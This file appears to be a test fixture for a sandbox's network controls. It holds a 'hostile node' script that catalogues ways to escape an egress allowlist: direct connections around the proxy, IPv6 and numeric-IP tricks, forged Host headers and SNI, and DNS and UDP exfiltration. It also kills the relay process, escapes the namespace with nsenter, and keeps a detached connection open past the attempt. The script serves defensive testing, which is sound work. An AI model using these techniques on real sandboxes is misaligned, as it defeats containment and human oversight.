// A hostile node with `network: { allow: [127.0.0.2] }`: every way we know to reach a host its graph does not
// allow, or to keep a way out past its attempt. It writes what each try got to $HOSTILE_REPORT (one JSON line per
// try); whether anything was reached is read from the servers themselves (test/reliability/hostile-egress.ts).
import { spawn, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { appendFileSync, readdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { connect, createServer } from 'node:net';
import { connect as tlsConnect } from 'node:tls';

const report = (row, found) =>
  appendFileSync(process.env.HOSTILE_REPORT, `${JSON.stringify({ row, found: String(found) })}\n`);
const proxy = new URL(process.env.HTTP_PROXY ?? 'http://127.0.0.1:1');
const GRANTED = new URL(process.env.GRANTED_URL);
const OTHER = new URL(process.env.OTHER_URL);
const V6_PORT = process.env.V6_PORT;
const API = new URL(process.env.GITHUB_API_URL);
const settle = (p, ms = 3000) =>
  Promise.race([p, new Promise((r) => setTimeout(() => r('timed out'), ms))]).catch(
    (e) => e.code ?? e.message,
  );

/** An absolute-URI request through the proxy: its status, and the Location of a redirect. */
function viaProxy(url, headers = {}) {
  return new Promise((resolve, reject) => {
    const req = request({ host: proxy.hostname, port: proxy.port, path: url, headers });
    req.on('response', (res) => {
      res.resume();
      resolve(`${res.statusCode}${res.headers.location ? ` -> ${res.headers.location}` : ''}`);
    });
    req.on('error', reject);
    req.end();
  });
}

/** A CONNECT through the proxy: its status, and the tunnel's socket when it was granted. */
function tunnel(target) {
  return new Promise((resolve, reject) => {
    const req = request({ host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: target });
    req.on('connect', (res, socket) => resolve({ status: res.statusCode, socket }));
    req.on('error', reject);
    req.end();
  });
}
const connectStatus = async (target) => {
  const t = await tunnel(target);
  if (t.status !== 200) t.socket.destroy();
  return t.status;
};

/** A TCP connection made directly, around the proxy. */
function direct(host, port) {
  return new Promise((resolve) => {
    const s = connect({ host, port: Number(port) });
    s.on('connect', () => {
      s.destroy();
      resolve('connected');
    });
    s.on('error', (e) => resolve(e.code));
  });
}

/** A raw request written to the proxy as if it were the server (origin form), with a forged Host. */
function originForm(host) {
  return new Promise((resolve) => {
    const s = connect({ host: proxy.hostname, port: Number(proxy.port) });
    let got = '';
    s.on('connect', () => s.write(`GET /origin-form HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`));
    s.on('data', (d) => (got += d));
    s.on('close', () => resolve(got.split('\r\n')[0]));
    s.on('error', (e) => resolve(e.code));
  });
}

const tries = {
  'a host not on the list, by name': async () =>
    [
      `not-allowed.example: ${await settle(viaProxy('http://not-allowed.example/x'))}`,
      `localhost (the host's 127.0.0.1): ${await settle(viaProxy(`http://localhost:${API.port}/`))}`,
      `CONNECT not-allowed.example:443: ${await settle(connectStatus('not-allowed.example:443'))}`,
    ].join('; '),
  'a host not on the list, by IP': async () =>
    [
      `GET ${OTHER.host}: ${await settle(viaProxy(`${OTHER.origin}/by-ip`))}`,
      `CONNECT ${OTHER.host}: ${await settle(connectStatus(OTHER.host))}`,
      `CONNECT 2130706433:${OTHER.port} (127.0.0.1 as a number): ${await settle(connectStatus(`2130706433:${OTHER.port}`))}`,
    ].join('; '),
  'around the proxy (a direct connection)': async () =>
    [
      `${OTHER.host}: ${await direct(OTHER.hostname, OTHER.port)}`,
      `${GRANTED.host}: ${await direct(GRANTED.hostname, GRANTED.port)}`,
      `1.1.1.1:443: ${await direct('1.1.1.1', 443)}`,
    ].join('; '),
  'over IPv6': async () =>
    [
      `direct [::1]:${V6_PORT}: ${await direct('::1', V6_PORT)}`,
      `GET [::1]:${V6_PORT}: ${await settle(viaProxy(`http://[::1]:${V6_PORT}/v6`))}`,
      `CONNECT [::ffff:${OTHER.hostname}]:${OTHER.port}: ${await settle(connectStatus(`[::ffff:${OTHER.hostname}]:${OTHER.port}`))}`,
    ].join('; '),
  'through the proxy with a forged Host header': async () =>
    [
      `GET ${GRANTED.host} with Host ${OTHER.host}: ${await settle(viaProxy(`${GRANTED.origin}/forged-host`, { host: OTHER.host }))}`,
      `origin-form GET with Host ${OTHER.host}: ${await settle(originForm(OTHER.host))}`,
    ].join('; '),
  'through the proxy with a forged SNI': async () => {
    const t = await tunnel(GRANTED.host);
    if (t.status !== 200) return `CONNECT ${GRANTED.host}: ${t.status}`;
    const tls = await settle(
      new Promise((resolve, reject) => {
        const s = tlsConnect({
          socket: t.socket,
          servername: 'not-allowed.example',
          rejectUnauthorized: false,
        });
        s.on('secureConnect', () => resolve('handshake done'));
        s.on('error', reject);
      }),
    );
    t.socket.destroy();
    return `CONNECT ${GRANTED.host} then TLS with SNI not-allowed.example: ${tls}`;
  },
  'by DNS': async () => {
    const name = `exfil-${Date.now()}.example.com`;
    const udp = await settle(
      new Promise((resolve) => {
        const s = createSocket('udp4');
        s.on('error', (e) => {
          s.close();
          resolve(e.code);
        });
        s.send(Buffer.from('exfil'), 53, '8.8.8.8', (e) => {
          s.close();
          resolve(e ? e.code : 'sent');
        });
      }),
    );
    return [`lookup ${name}: ${await settle(lookup(name))}`, `a UDP packet to 8.8.8.8:53: ${udp}`].join('; ');
  },
  'a granted host redirects to another host': async () => {
    const target = `${OTHER.origin}/stolen?data=secret`;
    const first = await settle(viaProxy(`${GRANTED.origin}/redirect?to=${encodeURIComponent(target)}`));
    const follow = await settle(viaProxy(target));
    return `first request: ${first}; the client follows it: ${follow}`;
  },
  "the host's loopback services (the local GitHub API)": async () =>
    [
      `direct ${API.host}: ${await direct(API.hostname, API.port)}`,
      `through the proxy: ${await settle(viaProxy(`${API.origin}/repos`))}`,
      `the proxy's sockets: ${(() => {
        try {
          return `listed ${
            readdirSync('/tmp')
              .filter((n) => n.startsWith('interlock-egress-'))
              .flatMap((d) => readdirSync(`/tmp/${d}`)).length
          } entries`;
        } catch (e) {
          return e.code;
        }
      })()}`,
    ].join('; '),
  'kill or replace the relay': async () => {
    const relay = relayPid();
    let kill;
    try {
      process.kill(relay, 'SIGKILL');
      kill = 'killed';
    } catch (e) {
      kill = e.code;
    }
    const listen = await new Promise((resolve) => {
      const s = createServer();
      s.on('error', (e) => resolve(e.code));
      s.listen(Number(proxy.port), '127.0.0.1', () => {
        s.close();
        resolve('listening');
      });
    });
    return `kill the relay (pid ${relay}): ${kill}; listen on the proxy's port: ${listen}`;
  },
  'leave the namespace': async () => {
    const r = spawnSync('nsenter', ['-t', '1', '-n', 'true'], { encoding: 'utf8' });
    return `nsenter -t 1 -n: ${r.status === 0 ? 'entered' : (r.stderr || r.error?.code || `exit ${r.status}`).trim()}`;
  },
};

/** The relay: the nearest ancestor that is root (the node's own chain runs as the node user). */
function relayPid() {
  let pid = process.ppid;
  for (let i = 0; i < 10 && pid > 1; i++) {
    const status = readFileSync(`/proc/${pid}/status`, 'utf8');
    if (/^Uid:\s+0\s/m.test(status)) return pid;
    pid = Number(/^PPid:\s+(\d+)/m.exec(status)[1]);
  }
  return pid;
}

for (const [row, attempt] of Object.entries(tries))
  report(row, await attempt().catch((e) => `error: ${e.message}`));

// Last: a tunnel to the granted host, handed to a detached process that keeps writing through it past the attempt.
const held = await tunnel(GRANTED.host);
const KEEP = `const s = new (require('net').Socket)({ fd: 3, readable: true, writable: true });
s.on('error', () => {}); let n = 0;
setInterval(() => { try { s.write('GET /late-' + (n++) + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); } catch {} }, 100);
setTimeout(() => process.exit(0), 30000);`;
const child = spawn(process.execPath, ['-e', KEEP], {
  detached: true,
  stdio: ['ignore', 'ignore', 'ignore', held.socket],
});
child.unref();
report('a connection held open past the attempt', `tunnel ${held.status}, handed to pid ${child.pid}`);
await new Promise((r) => setTimeout(r, 500));
process.exit(0);
